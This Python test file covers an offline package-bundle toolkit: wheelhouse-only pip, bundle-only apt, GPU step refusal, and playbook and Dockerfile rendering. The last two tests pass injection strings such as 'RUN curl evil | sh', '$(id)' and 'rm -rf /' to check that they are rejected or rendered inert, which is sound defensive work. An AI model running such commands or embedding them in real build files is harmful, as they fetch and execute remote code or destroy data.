"""The bundle plan: packages from the bundle only; steps no bundle can carry refused by name."""

from __future__ import annotations

import pytest

from tests.unit.lock.fake_lock import fake_lock
from toolkit.bundle import layout
from toolkit.bundle.install import apt_conf, install_sh, source_line
from toolkit.bundle.plan import BundleError, bundle_plan, unsupported
from toolkit.lock.apply import locked_plan
from toolkit.model.steps import Environment, PipInstall
from toolkit.plan.builder import build_plan
from toolkit.profile.loader import load_profile
from toolkit.render import dockerfile, script


@pytest.fixture(scope="module")
def plan():
    p = build_plan(load_profile("datascience-cpu"))
    return bundle_plan(locked_plan(p, fake_lock(p)))


def test_pip_steps_use_only_the_wheelhouse_and_apt_only_the_bundle(plan):
    first = plan.steps[0]
    assert isinstance(first, Environment) and first.build_only
    assert dict(first.variables)["APT_CONFIG"] == layout.APT_CONF
    pips = [s for s in plan.steps if isinstance(s, PipInstall)]
    assert pips and all(s.no_index and s.find_links == f"{layout.ROOT}/wheels" and not s.index_url
                        and not s.extra_index_urls and s.requirement_file for s in pips)
    text = script.render(plan).files["setup.sh"]
    assert "pypi.org" not in text and "--no-index" in text and f"export APT_CONFIG={layout.APT_CONF}" in text


def test_apt_trusts_only_the_bundle_entry():
    conf = apt_conf()
    assert f'Dir::Etc::sourcelist "{layout.ROOT}/apt/bundle-source";' in conf
    assert "AllowUnauthenticated" not in conf and "trusted" not in conf.lower().replace("bundle's", "")
    assert source_line() == f"deb [trusted=yes] file:{layout.ROOT}/debs ./\n"
    assert f'Dir::State::lists "{layout.APT_STATE}/lists/";' in conf


@pytest.mark.parametrize("profile", ["pytorch-cuda", "tensorflow-cuda"])
def test_gpu_host_steps_are_refused_by_name(profile):
    p = build_plan(load_profile(profile))
    refused = unsupported(p)
    assert refused and any("NVIDIA" in r for r in refused)
    with pytest.raises(BundleError, match="cannot carry"):
        bundle_plan(p)


def test_the_gpu_refusal_says_which_fields_to_set_and_setting_them_is_accepted(tmp_path):
    profile = tmp_path / "gpu.yaml"
    profile.write_text("name: gpu\nextends: pytorch-cuda\ngpu:\n  container_toolkit: true\n")
    p = build_plan(load_profile(profile))
    with pytest.raises(BundleError) as exc:
        bundle_plan(p)
    hint = exc.value.hint or ""
    assert "gpu.driver.install: never" in hint and "gpu.container_toolkit: false" in hint
    assert "the NVIDIA driver and the container toolkit on the hosts beforehand" in hint and "doctor" in hint
    profile.write_text("name: gpu\nextends: pytorch-cuda\ngpu:\n  container_toolkit: false\n  driver:\n"
                       "    install: never\n")
    assert unsupported(build_plan(load_profile(profile))) == []


def test_the_bundle_playbook_checks_links_and_unlinks_around_the_plan(plan):
    import yaml

    from toolkit.bundle import playbook

    files = playbook.files(plan)
    text = files[layout.PLAYBOOK]
    loaded = yaml.load(text.replace("!unsafe", ""), Loader=yaml.SafeLoader)  # noqa: S506 - plain SafeLoader
    [play] = loaded
    names = [t["name"] for t in play["pre_tasks"]]
    assert names.index("OS check") < names.index("Bundle: check every file against SHA256SUMS") < \
        names.index("Check whether Python module apt is on the host (needed by --check)")
    [block] = play["tasks"]
    assert block["block"][0]["name"] == f"Bundle: link {layout.ROOT} to it"
    assert block["always"][0]["name"] == f"Bundle: remove the link {layout.ROOT}"
    apt = [t["ansible.builtin.apt"] for t in block["block"] if "ansible.builtin.apt" in t]
    assert apt and all(a["cache_valid_time"] == 0 and a["update_cache"] for a in apt)
    assert play["environment"]["APT_CONFIG"] == layout.APT_CONF and play["environment"]["PIP_NO_INDEX"] == "1"
    assert "{{ toolkit_bundle_dir }}" in text and "pypi.org" not in text


def test_run_mounts_reach_every_run_and_are_checked(plan, tmp_path):
    # sudo's install comes after the Git configuration: two installs (adjacent ones make one RUN)
    (tmp_path / "p.yaml").write_text("name: p\nextends: datascience-cpu\nuser: {sudo: true}\n")
    p = build_plan(load_profile(tmp_path / "p.yaml"))
    split = bundle_plan(locked_plan(p, fake_lock(p)))
    mounts = (f"--mount=type=bind,source=bundle,target={layout.ROOT}", f"--mount=type=tmpfs,target={layout.APT_STATE}")
    text = dockerfile.render(split, run_mounts=mounts).files["Dockerfile"]
    runs = [line for line in text.replace("\\\n", " ").splitlines() if line.startswith("RUN ")]
    assert runs and all(mounts[0] in line and mounts[1] in line for line in runs)
    # the bundle's lists are in each RUN's tmpfs: always read, never judged by the shared lists cache's age
    installs = [line for line in runs if "apt-get install" in line]
    assert len(installs) > 1 and all("apt-get update" in line and "-mmin" not in line for line in installs)
    for bad in ("--mount=type=bind,source=x target=/y", "--mount=type=bind,source=x\nRUN curl evil | sh",
                "--mount=type=secret,id=x", "--mount=type=bind,source=$(id),target=/x"):
        with pytest.raises(ValueError):
            dockerfile.render(plan, run_mounts=(bad,))


def test_install_sh_names_profile_inertly():
    text = install_sh("evil\nrm -rf /; $(id)")
    assert "\nrm -rf /" not in text
    assert "# toolkit bundle installer for profile evil?rm -rf /; $(id) (generated" in text
